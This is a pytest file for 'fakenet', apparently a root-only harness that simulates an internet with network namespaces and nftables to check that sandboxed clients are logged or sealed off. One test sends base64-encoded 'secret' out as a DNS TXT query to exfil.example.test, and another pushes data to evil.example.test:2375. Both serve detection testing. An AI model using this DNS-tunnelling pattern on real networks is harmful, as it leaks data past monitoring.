"""fakenet against the real kernel: namespaces, veths, nftables, real servers (root only).

Every "cannot reach" case sits next to a control that must reach, so a broken harness cannot
pass for a sealed one.
"""

from __future__ import annotations

import base64
import ipaddress
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from fakenet import Client, FakeInternet, FakeNetError, leaked_namespaces, wait_until
from fakenet.topology import NETNS_ETC_DIR

pytestmark = [
    pytest.mark.netns,
    pytest.mark.skipif(os.geteuid() != 0, reason="fakenet needs root (network namespaces)"),
]


def run_py(client: Client, code: str, timeout: float = 10) -> dict:
    """Run Python code in the client's namespace; it prints one JSON object."""
    result = client.run([sys.executable, "-c", code], capture_output=True, text=True,
                        timeout=timeout)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def assert_torn_down(net: FakeInternet, workdir: Path | None) -> None:
    assert leaked_namespaces(net.name_prefix) == []
    assert not [p for p in NETNS_ETC_DIR.glob(net.name_prefix + "*")]
    for pid in net.pids:
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)
    if workdir is not None:
        assert not workdir.exists()


@pytest.fixture(scope="module")
def net(request: pytest.FixtureRequest) -> FakeInternet:
    internet = FakeInternet()
    internet.start()
    workdir = internet.workdir

    def finish() -> None:
        internet.close()
        assert_torn_down(internet, workdir)

    request.addfinalizer(finish)
    return internet


@pytest.fixture(scope="module")
def client(net: FakeInternet) -> Client:
    return net.add_client()


@pytest.fixture
def fresh(net: FakeInternet) -> Iterator[FakeInternet]:
    """The shared internet with empty records."""
    net.reset_records()
    yield net


# --- lifecycle -------------------------------------------------------------------------------

def test_teardown_leaves_nothing_and_close_is_idempotent() -> None:
    internet = FakeInternet()
    with internet:
        internet.add_client()
        internet.add_blackhole_client("reject")
        internet.add_isolated_client()
        workdir = internet.workdir
        assert len(leaked_namespaces(internet.name_prefix)) == 5  # inet, client, bh + gw, iso
        assert all(os.kill(pid, 0) is None for pid in internet.pids)
    assert_torn_down(internet, workdir)
    internet.close()  # a second close is a no-op
    with pytest.raises(FakeNetError):
        internet.add_client()


def test_failed_start_cleans_up() -> None:
    # Port 80 is HTTP's: the server process cannot bind it twice and says why.
    internet = FakeInternet(tcp_sink_ports=[80])
    with pytest.raises(FakeNetError, match=r":80: Address already in use"):
        internet.start()
    assert_torn_down(internet, None)


def test_start_timeout_cleans_up() -> None:
    internet = FakeInternet(start_timeout=0.001)
    with pytest.raises(FakeNetError, match="not ready"):
        internet.start()
    assert_torn_down(internet, None)


def test_two_instances_do_not_collide(net: FakeInternet, client: Client) -> None:
    with FakeInternet() as other:
        other_client = other.add_client()
        assert other.netns != net.netns and other_client.netns != client.netns
        net.reset_records()
        marker = f"two-{os.getpid()}".encode()
        run_py(other_client, f"""
import json, socket
s = socket.create_connection(("10.200.254.20", 9999), timeout=3)
s.sendall({marker!r}); s.close()
print(json.dumps({{}}))""")
        assert wait_until(lambda: other.received(marker))
        assert not net.received(marker)


# --- DNS -------------------------------------------------------------------------------------

def test_names_resolve_from_client(fresh: FakeInternet, client: Client) -> None:
    got = run_py(client, """
import json, socket
def v4(name):
    return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET)})
def v6(name):
    return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, socket.AF_INET6)})
print(json.dumps({"pypi": v4("pypi.org"), "api6": v6("api.example.test"),
                  "meta": v4("metadata.google.internal"), "other": v4("whatever.invalid")}))""")
    assert got["pypi"] == [fresh.address_of("pypi.org")]
    assert got["api6"] == [fresh.address6_of("api.example.test")]
    assert got["meta"] == [fresh.metadata_address]
    assert got["other"] == [fresh.address_of("whatever.invalid")]  # the catch-all
    assert ("pypi.org", "A") in fresh.dns_queries()


def test_query_shows_up_in_dns_queries(fresh: FakeInternet, client: Client) -> None:
    # A raw TXT question, as an exfiltrating agent would send; the label must be logged.
    got = run_py(client, f"""
import json, socket, struct
q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
for label in b"c2VjcmV0.exfil.example.test".split(b"."):
    q += bytes([len(label)]) + label
q += b"\\0" + struct.pack(">HH", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ({fresh.dns_address!r}, 53))
reply = s.recv(512)
print(json.dumps({{"id": reply[0] << 8 | reply[1], "rcode": reply[3] & 15}}))""")
    assert got == {"id": 0x1234, "rcode": 0}
    assert ("c2vjcmv0.exfil.example.test", "TXT") in fresh.dns_queries()
    assert fresh.received("c2VjcmV0")


def test_extra_names_and_no_catch_all() -> None:
    with FakeInternet({"added.example.test": None}, catch_all=False, ipv6=False) as internet:
        c = internet.add_client()
        got = run_py(c, """
import json, socket
try:
    socket.getaddrinfo("nothing.invalid", 80)
    out = "resolved"
except socket.gaierror as exc:
    out = exc.errno == socket.EAI_NONAME
print(json.dumps({"nx": out, "known": socket.gethostbyname("github.com"),
                  "added": socket.gethostbyname("added.example.test")}))""")
        assert got == {"nx": True, "known": internet.address_of("github.com"),
                       "added": internet.address_of("added.example.test")}
        with pytest.raises(KeyError):
            internet.address_of("nothing.invalid")


# --- HTTP(S), sinks, counters ------------------------------------------------------------------

def test_https_verifies_against_test_ca_and_is_recorded(fresh: FakeInternet,
                                                         client: Client) -> None:
    got = run_py(client, f"""
import json, ssl, urllib.request
ctx = ssl.create_default_context(cafile={str(fresh.ca_cert_path)!r})
body = urllib.request.urlopen(urllib.request.Request(
    "https://api.example.test/v1/items?q=1", data=b"payload-123", method="POST"),
    context=ctx, timeout=5).read()
# Control: without the test CA the same request must fail verification.
try:
    urllib.request.urlopen("https://api.example.test/", timeout=5,
                           context=ssl.create_default_context())
    unverified = "accepted"
except Exception as exc:
    unverified = type(getattr(exc, "reason", exc)).__name__
print(json.dumps({{"body": json.loads(body), "unverified": unverified}}))""")
    assert got["body"]["method"] == "POST" and got["body"]["tls"] is True
    assert got["unverified"] == "SSLCertVerificationError"
    [request] = [r for r in fresh.http_requests() if r["path"] == "/v1/items?q=1"]
    assert request["method"] == "POST" and request["host"] == "api.example.test"
    assert request["tls"] is True and request["sni"] == "api.example.test"
    assert request["body"] == b"payload-123"
    assert request["headers"]["content-length"] == "11"


def test_a_site_is_served_over_https_and_other_hosts_keep_the_echo(fresh: FakeInternet,
                                                                  client: Client) -> None:
    site = fresh.site_dir("pypi.org")
    (site / "simple" / "demo").mkdir(parents=True)
    (site / "simple" / "demo" / "index.html").write_text("<a href='x'>demo</a>")
    with pytest.raises(FakeNetError, match="not a name"):
        fresh.site_dir("nowhere.invalid")
    try:
        got = fetch_site_pages(fresh, client)
    finally:
        shutil.rmtree(site)  # the internet is shared: pypi.org answers with the echo again
    assert got["page"] == [200, "text/html; charset=utf-8", "<a href='x'>demo</a>"]
    assert got["missing"][0] == 404
    assert got["echo"]["path"] == "/simple/demo/"  # no site: the echo server answers
    assert [r["path"] for r in fresh.http_requests() if r["host"] == "pypi.org"] == [
        "/simple/demo/", "/simple/other/"]


def fetch_site_pages(fresh: FakeInternet, client: Client) -> dict:
    return run_py(client, f"""
import json, ssl, urllib.error, urllib.request
ctx = ssl.create_default_context(cafile={str(fresh.ca_cert_path)!r})
def get(url):
    try:
        r = urllib.request.urlopen(url, context=ctx, timeout=5)
        return [r.status, r.headers["content-type"], r.read().decode()]
    except urllib.error.HTTPError as exc:
        return [exc.code, exc.headers["content-type"], exc.read().decode()]
print(json.dumps({{"page": get("https://pypi.org/simple/demo/"),
                  "missing": get("https://pypi.org/simple/other/"),
                  "echo": json.loads(get("https://api.example.test/simple/demo/")[2])}}))""")


def test_an_early_refusal_answers_413_before_the_body_and_stops_reading(
        fresh: FakeInternet, client: Client) -> None:
    """`/discard...?early=N`: the 413 arrives while the client still has most of its 32 MiB
    to send, and the server takes no more of it (the client's send times out)."""
    got = run_py(client, f"""
import json, socket, ssl
ctx = ssl.create_default_context(cafile={str(fresh.ca_cert_path)!r})
sock = ctx.wrap_socket(socket.create_connection(("api.example.test", 443), timeout=5),
                       server_hostname="api.example.test")
size = 32 * 1024 * 1024
sock.sendall(b"POST /discard/x?early=30 HTTP/1.1\\r\\nHost: api.example.test\\r\\n"
             b"Content-Length: %d\\r\\n\\r\\n" % size + bytes(64 * 1024))
answer = sock.recv(4096).split(b"\\r\\n")[0].decode()
sent, stalled = 64 * 1024, False
sock.settimeout(2)
try:
    while sent < size:
        sent += sock.send(bytes(1 << 20))
except (socket.timeout, ssl.SSLError, OSError):
    stalled = True
print(json.dumps({{"answer": answer, "stalled": stalled, "sent": sent}}))""", timeout=30)
    assert got["answer"] == "HTTP/1.1 413 Payload Too Large", got
    assert got["stalled"] and got["sent"] < 32 * 1024 * 1024, got


def test_plain_http_and_keep_alive(fresh: FakeInternet, client: Client) -> None:
    got = run_py(client, """
import http.client, json
conn = http.client.HTTPConnection("pypi.org", 80, timeout=5)
statuses = []
for path in ("/simple/a/", "/simple/b/", "/simple/c/"):
    conn.request("GET", path)
    response = conn.getresponse()
    statuses.append((response.status, json.loads(response.read())["path"]))
print(json.dumps(statuses))""")
    assert got == [[200, "/simple/a/"], [200, "/simple/b/"], [200, "/simple/c/"]]
    paths = [r["path"] for r in fresh.http_requests() if not r["tls"]]
    assert paths == ["/simple/a/", "/simple/b/", "/simple/c/"]
    # All three on one connection: one sink record holding the three raw requests.
    [record] = fresh.sink_records(80)
    assert record.data.count(b"GET /simple/") == 3


def test_sink_records_exact_bytes(fresh: FakeInternet, client: Client) -> None:
    payload = bytes(range(256)) * 300 + b"\r\n\x00end"
    run_py(client, f"""
import json, socket
data = bytes(range(256)) * 300 + b"\\r\\n\\x00end"
s = socket.create_connection(({fresh.address_of("evil.example.test")!r}, 2375), timeout=3)
for i in range(0, len(data), 7000):
    s.sendall(data[i:i + 7000])
s.close()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"udp-datagram-\\xff", ({fresh.address_of("files.example.test")!r}, 9999))
print(json.dumps({{}}))""")
    tcp = wait_until(lambda: [r for r in fresh.sink_records(2375) if len(r.data) >= len(payload)])
    assert [r.data for r in tcp] == [payload]
    assert tcp[0].proto == "tcp" and tcp[0].peer == client.address
    udp = wait_until(lambda: fresh.sink_records(9999))
    assert [(r.proto, r.data) for r in udp] == [("udp", b"udp-datagram-\xff")]


def test_tcp_53_on_a_service_address_is_a_sink(fresh: FakeInternet, client: Client) -> None:
    address = fresh.address_of("dns.google")
    got = run_py(client, f"""
import json, socket
s = socket.create_connection(({address!r}, 53), timeout=3)
s.sendall(b"not-dns"); s.close()
print(json.dumps({{}}))""")
    assert got == {}
    assert wait_until(lambda: [r.data for r in fresh.sink_records(53)]) == [b"not-dns"]


def test_echo_answers_from_the_address_asked(fresh: FakeInternet, client: Client) -> None:
    address = fresh.address_of("allowed.example.test")
    got = run_py(client, f"""
import json, socket
t = socket.create_connection(({address!r}, 7), timeout=3); t.sendall(b"ping-tcp")
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
u.connect(({address!r}, 7)); u.send(b"ping-udp")
print(json.dumps({{"tcp": t.recv(100).decode(), "udp": u.recv(100).decode()}}))""")
    assert got == {"tcp": "ping-tcp", "udp": "ping-udp"}


def test_packet_counts_by_protocol(fresh: FakeInternet, client: Client) -> None:
    before = fresh.packet_counts()
    assert before["udp"] == 0  # reset (tcp may still see the last FINs of earlier tests)
    run_py(client, f"""
import json, socket
socket.create_connection(({fresh.address_of("github.com")!r}, 443), timeout=3).close()
print(json.dumps({{}}))""")
    counts = fresh.packet_counts()
    assert counts["tcp"] - before["tcp"] >= 3  # handshake, at least
    assert counts["udp"] == 0 and counts["icmp"] == 0  # an IP literal: no DNS, nothing else


def run_ws(client: Client, spec: dict) -> dict:
    """tests/ws_client.py in the client's namespace."""
    source = (Path(__file__).parent.parent / "ws_client.py").read_text()
    result = client.run([sys.executable, "-c", source, json.dumps(spec)], capture_output=True,
                        text=True, timeout=30)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


@pytest.mark.parametrize("tls", [True, False])
def test_websocket_echo_is_recorded_per_message(fresh: FakeInternet, client: Client,
                                                tls: bool) -> None:
    big = os.urandom(70000)
    spec = {"host": "api.example.test", "port": 443 if tls else 80, "tls": tls,
            "cafile": str(fresh.ca_cert_path),
            "messages": [{"type": "text", "text": "hello-ws-\u00e9"},
                         {"type": "binary", "data": base64.b64encode(big).decode()}]}
    got = run_ws(client, spec)
    assert got["status"] == 101 and got["accept_ok"]
    assert [base64.b64decode(r["echo"]) for r in got["results"]] == [
        "hello-ws-\u00e9".encode(), big]
    assert [r["type"] for r in got["results"]] == ["text", "binary"]
    assert got["close"].startswith("close frame 1000")
    proto = "wss" if tls else "ws"
    messages = [r.data for r in fresh.sink_records() if r.proto == proto]
    assert messages == ["hello-ws-\u00e9".encode(), big]
    assert fresh.received(big[1000:1100])  # unmasked: received() sees the payload
    [handshake] = [r for r in fresh.http_requests() if r["path"] == "/ws"]
    assert handshake["headers"]["upgrade"] == "websocket" and handshake["tls"] is tls


def test_websocket_handshake_elsewhere_is_refused(fresh: FakeInternet, client: Client) -> None:
    got = run_ws(client, {"host": "api.example.test", "cafile": str(fresh.ca_cert_path),
                          "path": "/not-ws", "messages": [{"type": "text", "text": "x"}]})
    assert got["status"] == 400 and got["results"] == []
    assert not any(r.proto == "wss" for r in fresh.sink_records())


# --- attach ----------------------------------------------------------------------------------

def test_attach_existing_namespace(net: FakeInternet) -> None:
    name = net.name_prefix + "ext"  # ours, so a leak check with our prefix would see it
    subprocess.run(["ip", "netns", "add", name], check=True)
    try:
        with FakeInternet(ipv6=False) as other:
            with pytest.raises(ValueError, match="outside"):
                other.attach(name, return_routes=["192.168.7.0/24"])
            link = other.attach(name)
            assert link.interface.startswith("fn") and len(link.interface) <= 15
            result = subprocess.run(
                ["ip", "netns", "exec", name, sys.executable, "-c",
                 f"import socket; socket.create_connection(({other.address_of('pypi.org')!r},"
                 " 443), timeout=3).close()"], capture_output=True, text=True, timeout=10)
            assert result.returncode == 0, result.stderr
            routes = subprocess.run(["ip", "-n", name, "route"], capture_output=True, text=True)
            assert f"default via {link.peer_address}" in routes.stdout
        links = subprocess.run(["ip", "-n", name, "-o", "link"], capture_output=True, text=True)
        assert link.interface not in links.stdout  # removed, the namespace itself left alone
    finally:
        subprocess.run(["ip", "netns", "delete", name], check=True)


# --- clients that reach nothing --------------------------------------------------------------

_REACH = """
import json, socket, sys, time
target = (sys.argv[1], int(sys.argv[2]))
out = {}
t = time.monotonic()
s = socket.socket(socket.AF_INET6 if ":" in target[0] else socket.AF_INET); s.settimeout(1.0)
try:
    s.connect(target); out["tcp"] = "connected"
except OSError as exc:
    out["tcp"] = type(exc).__name__
out["tcp_s"] = time.monotonic() - t
t = time.monotonic()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1.0)
try:
    u.connect((sys.argv[3], 53)); u.send(b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6)
        + b"\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01")
    reply = u.recv(512); out["dns"] = "rcode%d" % (reply[3] & 15)
except OSError as exc:
    out["dns"] = type(exc).__name__
out["dns_s"] = time.monotonic() - t
print(json.dumps(out))
"""


def reach(client: Client, host: str, port: int, dns: str) -> dict:
    result = client.run([sys.executable, "-c", _REACH, host, str(port), dns],
                        capture_output=True, text=True, timeout=10)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def lookup(client: Client, name: str, timeout: float) -> str:
    """The system resolver's verdict on `name` from inside the client, within `timeout`."""
    code = ("import socket, sys\n"
            "try:\n    print(socket.getaddrinfo(sys.argv[1], 80)[0][4][0])\n"
            "except socket.gaierror as exc:\n    print('gaierror', exc.errno)")
    try:
        result = client.run([sys.executable, "-c", code, name], capture_output=True, text=True,
                            timeout=timeout)
    except subprocess.TimeoutExpired:
        return "timeout"
    return result.stdout.strip()


def test_open_client_control(net: FakeInternet, client: Client) -> None:
    # The same checks as the blackhole tests, against the open client: they must succeed here.
    got = reach(client, net.address_of("pypi.org"), 443, net.dns_address)
    assert got["tcp"] == "connected" and got["dns"] == "rcode0"
    assert lookup(client, "pypi.org", timeout=5) in (net.address_of("pypi.org"),
                                                     net.address6_of("pypi.org"))
    # The internet's side of the link is a router, not a host: its ports are closed.
    for gateway in (client.gateway, f"fd0a:200:{client.address.split('.')[2]}::1"):
        assert reach(client, gateway or "", 2375, net.dns_address)["tcp"] == \
            "ConnectionRefusedError"


def test_blackhole_drop_times_out(net: FakeInternet) -> None:
    bh = net.add_blackhole_client("drop")
    assert bh.kind == "blackhole-drop" and bh.gateway_netns
    got = reach(bh, net.address_of("pypi.org"), 443, net.dns_address)
    assert got["tcp"] == "TimeoutError" and got["tcp_s"] >= 0.9
    assert got["dns"] == "TimeoutError"
    # The resolver configured in the client is the gateway, which drops DNS too.
    gw = reach(bh, bh.gateway or "", 2375, bh.gateway or "")
    assert gw["tcp"] == "TimeoutError" and gw["dns"] == "TimeoutError"
    assert lookup(bh, "pypi.org", timeout=2.0) == "timeout"


def test_blackhole_reject_fails_fast(net: FakeInternet) -> None:
    rj = net.add_blackhole_client("reject")
    assert rj.kind == "blackhole-reject"
    started = time.monotonic()
    got = reach(rj, net.address_of("pypi.org"), 443, net.dns_address)
    assert got["tcp"] == "ConnectionRefusedError" and got["tcp_s"] < 0.5
    assert got["dns"] == "ConnectionRefusedError" and got["dns_s"] < 0.5
    gw = reach(rj, rj.gateway or "", 53, rj.gateway or "")
    assert gw["dns"] == "rcode3"  # NXDOMAIN from the gateway's own answerer
    assert lookup(rj, "pypi.org", timeout=3) == "gaierror -2"  # EAI_NONAME
    v6 = reach(rj, net.address6_of("pypi.org") or "", 443, net.dns_address)
    assert v6["tcp"] == "ConnectionRefusedError" and v6["tcp_s"] < 0.5
    assert time.monotonic() - started < 3


def test_isolated_client_has_no_route(net: FakeInternet) -> None:
    iso = net.add_isolated_client()
    got = reach(iso, net.address_of("pypi.org"), 443, net.dns_address)
    assert got["tcp"] == "OSError" and got["tcp_s"] < 0.1  # ENETUNREACH
    assert lookup(iso, "pypi.org", timeout=3).startswith("gaierror")
    routes = iso.run(["ip", "route"], capture_output=True, text=True)
    assert routes.stdout.strip() == ""


# --- probe targets ---------------------------------------------------------------------------

def test_probe_targets_stay_inside_the_fake_internet(net: FakeInternet) -> None:
    targets = json.loads(net.probe_targets_file.read_text())
    assert set(targets) >= {"egress", "metadata", "ipv6", "udp_dns", "dns_control",
                            "proxy_control", "public_networks"}
    networks = [ipaddress.ip_network(n) for n in targets["public_networks"]]
    hosts = [t.rsplit(":", 1)[0].strip("[]") for t in
             [*targets["egress"], *targets["metadata"], *targets["ipv6"], targets["udp_dns"]]]
    for host in hosts:
        try:
            address = ipaddress.ip_address(host)
        except ValueError:
            address = ipaddress.ip_address(net.address_of(host))  # a name: where DNS sends it
        assert any(address in n for n in networks), host
    assert f"{net.metadata_address}:80" in targets["metadata"]
